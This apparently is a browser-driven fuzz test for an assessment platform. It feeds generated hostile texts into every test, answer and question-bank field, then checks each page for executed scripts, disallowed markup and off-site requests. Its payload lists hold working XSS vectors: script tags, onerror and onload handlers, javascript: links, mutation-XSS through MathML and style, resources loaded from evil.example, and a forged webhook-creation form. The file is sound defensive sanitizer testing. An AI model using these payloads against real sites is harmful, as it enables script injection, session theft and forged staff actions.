// Hostile texts: every field that an author or a candidate fills, through every page that shows it, in a real browser.
// No script runs, no element outside the list stands in a text, no other host is asked, and the server lives.
//
// ASSAY_HOSTILE_TEXTS=5000 makes more of them, ASSAY_HOSTILE_SEED=2 others.

import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { Server, Watched, signIn } from "./support.mjs";

const TEXTS = Number(process.env.ASSAY_HOSTILE_TEXTS ?? 250);
const SEED = Number(process.env.ASSAY_HOSTILE_SEED ?? 1);
/** Texts of one document. */
const BATCH = 250;

/** What a shown text may consist of (`crates/markup/src/sanitize.rs`); `scope` and `class` are of our own tables around answers. */
const ELEMENTS =
  "p h1 h2 h3 h4 h5 h6 em strong del code pre blockquote ul ol li hr br a img table thead tbody tr th td b i u s sub sup " +
  "math mrow mfrac msqrt mroot mstyle merror mpadded mphantom menclose msub msup msubsup munder mover munderover " +
  "mmultiscripts mtable mtr mtd mi mo mn ms mtext mspace mprescripts none";
const ATTRIBUTES =
  "href title rel target src alt loading start align display accent accentunder mathvariant stretchy fence separator form " +
  "lspace rspace minsize maxsize movablelimits largeop symmetric linethickness displaystyle scriptlevel width height depth " +
  "voffset columnspan rowspan notation dir intent scope";

// --- the generator ---

function chance(seed) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
  return { next, below: (most) => Math.floor(next() * most), pick: (list) => list[Math.floor(next() * list.length)] };
}

const RUN = "window.hit=1;alert(1)";
const encoded = (html) =>
  [...html].map((letter) => (/[a-z0-9]/i.test(letter) ? letter : `\\&\\#${letter.codePointAt(0)};`)).join("");
const HTML = [
  `<script>${RUN}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><style><img src=x onerror="${RUN}"></style></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}">`,
  `<form data-send-at-once action=/staff/webhooks/do/create method=post><input name=url></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href=https://evil.example/>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import "https://evil.example/y.css";*{background:url(https://evil.example/p)}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<object data=https://evil.example/o></object>`,
  `<video src=https://evil.example/v autoplay onplay="${RUN}"></video>`,
  `<b style="position:fixed;inset:0" class=alert id=main>x</b>`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<plaintext>`,
  `<!--`,
  `-->`,
  `<![CDATA[`,
  `</div></main></body>`,
  `<details open ontoggle="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<select><option><style></option></select><img src=x onerror="${RUN}"></style>`,
];
const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `![x](https://evil.example/p.png)`,
  `![x](//evil.example/p)`,
  `![x](data:image/svg+xml;base64,PHN2Zy8+)`,
  `<javascript:${RUN}>`,
  "[x]: javascript:alert(1)\n\n[x]",
  '![](x" onerror="alert(1))',
  "`<script>`",
  "```html\n<script>\n```",
  "| a | b |\n| - | - |\n| <img src=x> | $x$ |",
  "> > > a",
  "1. - 1. - x",
  "***a**b*",
  "[a](<b \"c> 'd)",
  "~~x~~",
  "# <b>x</b>",
  "&lt;script&gt;",
  "&#60;script&#62;",
  "\\<script\\>",
  "$5 and $6",
];
const FORMULAS = [
  ...HTML.slice(0, 14).map(
    (html) =>
      `$\\operatorname{${html.replace(/ /g, "/").replace(/[^a-z0-9<>/=:;?.]/gi, (letter) => encoded(letter))}}$`,
  ),
  ...HTML.slice(0, 8).map((html) => `$\\operatorname{<iframe/srcdoc=${encoded(html)}>}$`),
  "$\\operatorname*{</mo></math><script/src=/x></script>}$",
  `$\\href{javascript:${RUN}}{x}$`,
  "$\\text{<script>}$",
  "$\\<script>$",
  "$\\unicode{<b>}$",
  "$\\color{<}x$",
  "$\\tag{<b>}x$",
  "$\\frac{1}{2} \\left( \\begin{matrix} 1 & 2 \\\\ 3 & 4 \\end{matrix} \\right)$",
  "$$\\sum_{i=1}^{n} \\sqrt[3]{x^{i}}$$",
  "$a & b$",
  "$\\displaystyle a & b$",
  "$x^$",
  "$\\frac{1}$",
  "$\\begin{array}{c|c} 1 & 2 \\end{array}$",
  `$${"{".repeat(1500)}${"}".repeat(1500)}$`,
  `$${"\\sqrt".repeat(60)} x$`,
  `$${"\\frac1".repeat(60)} x$`,
  `$${"x^{".repeat(60)}x${"}".repeat(60)}$`,
];
const LETTERS = [
  "\u0000",
  "\u202e",
  "\u200b",
  "\ufeff",
  "\u{e0041}",
  "\u{f0000}0\u{f0001}",
  "\u0300".repeat(40),
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}",
  "\u0085",
  "\u2028",
  "\ud7ff",
  "ﷺ",
  "İıſK",
  "\t",
  "\r\n",
];
const LARGE = [
  (r) => "> ".repeat(51 + r.below(2000)) + "a",
  (r) => "- ".repeat(51 + r.below(2000)) + "a",
  (r) => "[".repeat(r.below(3000)),
  (r) => "*a **b ".repeat(r.below(1000)),
  (r) => "<b>".repeat(r.below(2000)),
  (r) => "$x$ ".repeat(r.below(1000)),
  (r) => "|a".repeat(60) + "|\n" + "|-".repeat(60) + "|\n" + "|\n".repeat(r.below(200)),
  (r) => "&amp;".repeat(r.below(1000)),
  (r) => "![a](".repeat(r.below(2000)),
  (r) => "`".repeat(r.below(2000)),
];

function hostile(random) {
  const pools = [HTML, HTML, MARKDOWN, FORMULAS, FORMULAS, LETTERS];
  const pieces = Array.from({ length: 1 + random.below(4) }, () => random.pick(random.pick(pools)));
  if (random.below(12) === 0) pieces.push(random.pick(LARGE)(random));
  let text = pieces.join(random.pick([" ", "", "\n", "\n\n", "x"]));
  if (random.below(4) === 0) {
    const at = random.below(text.length);
    const change = random.pick(["", "<", ">", "&", "$", '"', "`", "}", "\\", "\u0000", "</", "--"]);
    text = text.slice(0, at) + change + text.slice(at + random.below(3));
  }
  // JSON takes no lone surrogate, and a text must show something.
  return `t ${text}`.toWellFormed().slice(0, 20_000);
}

// --- a document of hostile texts ---

/** A document with these texts in every field, and how many it took. */
function written(number, texts) {
  let at = 0;
  const next = () => texts[at++ % texts.length];
  const line = () =>
    next()
      .replace(/[\u0000-\u001f\u007f-\u009f]/g, " ")
      .slice(0, 180)
      .toWellFormed();
  const base = (key, kind) => ({ key, kind, text: next(), hint: next(), feedback: next() });
  const choice = (key) => ({ key, text: next(), percentage: key === "a" ? 100 : 0, feedback: next() });
  const questions = (prefix) => [
    { ...base(`${prefix}one`, "multiplechoice"), choices: ["a", "b", "c"].map(choice) },
    { ...base(`${prefix}drop`, "multiplechoice"), layout: "dropdown", choices: ["a", "b"].map(choice) },
    {
      ...base(`${prefix}match`, "match"),
      options: ["o1", "o2"].map((key) => ({ key, text: next() })),
      items: ["i1", "i2"].map((key) => ({ key, text: next(), matches: [{ option: "o1", percentage: 50 }] })),
    },
    { ...base(`${prefix}area`, "input"), type: "area", maxLength: 1_000_000 },
    { ...base(`${prefix}rich`, "input"), type: "rich", maxLength: 1_000_000 },
    { ...base(`${prefix}code`, "input"), type: "code", language: line(), template: next(), maxLength: 1_000_000 },
    {
      ...base(`${prefix}table`, "input"),
      type: "tabular",
      columns: [{ key: "x", title: line(), type: "field" }],
      rows: [{ key: "r", title: line() }],
      evaluation: "manual",
    },
    {
      ...base(`${prefix}number`, "input"),
      type: "numeric",
      unit: line().slice(0, 40),
      rules: [{ rule: "equal", value: 1, percentage: 100 }],
    },
  ];
  const pages = (section) =>
    [1, 2].map((page) => ({
      key: `s${section}p${page}`,
      title: line(),
      text: next(),
      questions: questions(`s${section}p${page}`),
    }));
  const sections = [1, 2].map((section) => ({
    key: `s${section}`,
    title: line(),
    intro: next(),
    pages: pages(section),
  }));
  const document = {
    assay: 1,
    key: `hostile-${number}`,
    title: line(),
    description: next(),
    instructions: next(),
    closing: next(),
    mandatory: { page: "off", section: "off", test: "off" },
    sections,
  };
  while (at < texts.length)
    document.description += `\n\n${next()}`.slice(0, Math.max(0, 60_000 - document.description.length));
  return document;
}

function put(document, pointer, value) {
  const names = pointer.slice(1).split("/");
  const last = names.pop();
  const holder = names.reduce((node, name) => node[name], document);
  holder[last] = value;
}

/** Stores a document; texts that are refused are counted and replaced. */
async function stored(document) {
  let refused = 0;
  for (;;) {
    const headers = { Authorization: `Bearer ${server.key}`, "Content-Type": "application/json" };
    const response = await fetch(`${server.url}/api/management/v1/tests`, {
      method: "POST",
      headers,
      body: JSON.stringify(document),
    });
    const answer = await response.json();
    if (response.ok) return { test: answer.testId, refused };
    assert.equal(response.status, 400, JSON.stringify(answer));
    const pointers = new Set(
      (answer.faults ?? answer.errors).filter((fault) => !fault.code.startsWith("warn_")).map((fault) => fault.pointer),
    );
    assert.ok(pointers.size > 0, JSON.stringify(answer));
    for (const pointer of pointers) put(document, pointer, "refused");
    refused += pointers.size;
  }
}

// --- the walk ---

let server;
let watched;
let staff;
let pages = 0;
before(async () => {
  server = await Server.start();
  watched = await Watched.open();
  staff = await signIn(await watched.device(server), server);
});
after(async () => {
  await watched?.close();
  await server?.end();
});

/** What is wrong with a page, found inside of it. */
function faultsOfPage([elements, attributes, origin]) {
  const faults = [];
  const [allowed, plain] = [new Set(elements.split(" ")), new Set(attributes.split(" "))];
  if (globalThis.hit) faults.push("a script ran");
  for (const node of document.querySelectorAll("iframe, object, embed, style, base, frame, meta[http-equiv]"))
    faults.push(`element: ${node.outerHTML.slice(0, 200)}`);
  for (const script of document.scripts)
    if (!script.src.startsWith(`${origin}/assets/`)) faults.push(`script: ${script.outerHTML.slice(0, 200)}`);
  for (const node of document.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on")) faults.push(`attribute: ${node.outerHTML.slice(0, 200)}`);
      if (
        ["href", "src", "action", "formaction", "xlink:href"].includes(name) &&
        !/^(https?:|mailto:|data:image\/(png|jpeg|gif|webp);|\/|\?|#)/.test(value)
      )
        faults.push(`address: ${name}=${value.slice(0, 100)}`);
    }
  }
  const shown = document.querySelectorAll(".text *, .choice span *, .partner *, .pairs label *, .pairs td *");
  for (const node of shown) {
    if (!allowed.has(node.localName) && node.localName !== "span")
      faults.push(`in a text: ${node.outerHTML.slice(0, 200)}`);
    if (node.localName === "span" && !["badge", "soft", "no-medium"].some((name) => node.classList.contains(name)))
      faults.push(`in a text: ${node.outerHTML.slice(0, 200)}`);
    if (node.localName === "span") continue;
    for (const { name } of node.attributes)
      if (!plain.has(name)) faults.push(`in a text: ${name} of ${node.outerHTML.slice(0, 200)}`);
    if (
      node.namespaceURI.endsWith("MathML") &&
      ["mi", "mo", "mn", "ms"].includes(node.localName) &&
      node.children.length > 0
    )
      faults.push(`in a formula: ${node.outerHTML.slice(0, 200)}`);
  }
  return faults;
}

async function see(page, path) {
  const response = await page.goto(server.url + path, { waitUntil: "load" });
  assert.ok(response.status() < 500, `${path}: ${response.status()}`);
  assert.ok(response.status() === 200, `${path}: ${response.status()}`);
  const faults = await page.evaluate(faultsOfPage, [ELEMENTS, ATTRIBUTES, server.url]);
  assert.deepEqual(faults, [], path);
  pages += 1;
}

async function delivery(path, token, body) {
  const headers = { "Content-Type": "application/json", ...(token ? { Authorization: `Bearer ${token}` } : {}) };
  const response = await fetch(`${server.url}/api/delivery/v1${path}`, {
    method: body ? "POST" : "GET",
    headers,
    body: body && JSON.stringify(body),
  });
  const answer = await response.json();
  assert.ok(response.ok, `${path}: ${JSON.stringify(answer).slice(0, 500)}`);
  return answer;
}

/** A candidate of a task hands in hostile answers; every page on the way is looked at. */
async function sat(context, task, texts) {
  const name = texts[0]
    .replace(/[\u0000-\u001f\u007f-\u009f\u202e\u2028]/g, " ")
    .slice(0, 80)
    .toWellFormed();
  const person = await server.candidate(task.taskId, { fullname: name });
  const opened = async () => {
    const tab = await context.newPage();
    tab.on("dialog", (dialog) => {
      watched.faults.push(`a dialog: ${dialog.message()}`);
      dialog.dismiss();
    });
    return tab;
  };
  // Each page in a tab of its own, closed before the next call: a page left open notices what the calls below change,
  // goes to another address by itself, and would cut off the next visit.
  const look = async (path) => {
    const tab = await opened();
    await see(tab, path);
    await tab.close();
  };
  const entrance = await opened();
  await entrance.goto(`${server.url}/enter/${person.invitationCode}`);
  await entrance.waitForURL(/\/steps$/);
  await entrance.close();
  await look(`/t/${task.taskId}/steps`);
  const { token } = await delivery("/enter", null, { invitationCode: person.invitationCode });
  const { steps } = await delivery("/steps", token);
  await look(`/t/${task.taskId}/steps/${steps[0].stepId}`);
  const { instanceId } = await delivery(`/steps/${steps[0].stepId}/start`, token, { clientToken: "s" });
  const base = `/instances/${instanceId}`;
  for (const number of [1, 2, 3, 4]) {
    await look(`/t/${task.taskId}/sit/${instanceId}?to=${number}`);
    await delivery(`${base}/page`, token, { page: number, confirm: true });
    const first = (number - 1) * 8;
    const writes = [
      [1, ["a"]],
      [2, ["b"]],
      [3, { i1: "o2" }],
      [4, texts[number]],
      [5, texts[number + 1]],
      [6, texts[number + 2]],
      [7, { r: { x: texts[number + 3].slice(0, 900).toWellFormed() } }],
    ];
    const sent = writes.map(([slot, response]) => ({ slot: first + slot, seq: 1, response }));
    await delivery(`${base}/answers`, token, { writes: sent });
    await look(`/t/${task.taskId}/sit/${instanceId}`);
  }
  await delivery(`${base}/complete`, token, { clientToken: "c", confirm: true });
  await look(`/t/${task.taskId}/sit/${instanceId}/receipt`);
  return { instanceId, candidateId: person.candidateId ?? person.id };
}

test(`${TEXTS} hostile texts through every page that shows them`, async (t) => {
  const random = chance(SEED);
  staff.on("dialog", (dialog) => {
    watched.faults.push(`a dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  let refused = 0;
  for (let done = 0; done < TEXTS; done += BATCH) {
    const texts = Array.from({ length: Math.min(BATCH, TEXTS - done) }, () => hostile(random));
    const document = written(done, texts);
    const saved = await stored(document);
    refused += saved.refused;
    const title = texts
      .at(-1)
      .replace(/[\u0000-\u001f\u007f-\u009f<>/]/g, " ")
      .slice(0, 150)
      .toWellFormed();
    const task = await server.api("/api/management/v1/tasks", { title, steps: [{ test: saved.test }] });
    for (const path of ["", "/preview", "/source", "/history"]) await see(staff, `/staff/tests/${saved.test}${path}`);
    const candidates = await watched.device(server);
    const { instanceId, candidateId } = await sat(candidates, task, [...texts, ...texts]);
    await candidates.close();
    const ofTask = `/staff/tasks/${task.taskId}`;
    for (const path of ["", "/candidates", "/results", `/results/${instanceId}`, "/group"])
      await see(staff, ofTask + path);
    if (candidateId) await see(staff, `${ofTask}/candidates/${candidateId}`);
    for (const path of [
      "/staff/tests",
      "/staff/tasks",
      "/staff/live",
      "/staff/evaluate",
      `/staff/evaluate/answer?task=${task.taskId}`,
    ])
      await see(staff, path);
    await bank(document, done);
    assert.equal((await fetch(`${server.url}/healthz`)).status, 200);
  }
  watched.demandNoFaults();
  assert.ok(pages > 30);
  t.diagnostic(`seed ${SEED}: ${TEXTS} texts, ${refused} refused when stored, ${pages} pages looked at`);
});

/** Some of the questions in the bank, and its pages. */
async function bank(document, done) {
  const [section] = document.sections;
  for (const question of section.pages[0].questions.slice(0, 4)) {
    const saved = await staff.request.post(`${server.url}/staff/bank/do/save`, {
      headers: { "Sec-Fetch-Site": "same-origin", Origin: server.url },
      data: { text: JSON.stringify({ ...question, key: `${question.key}-${done}` }), approve: false },
    });
    assert.equal(saved.status(), 200, await saved.text());
    const { question: id } = await saved.json();
    for (const path of ["", "/preview", "/history"]) await see(staff, `/staff/bank/${id}${path}`);
  }
  await see(staff, "/staff/bank");
}
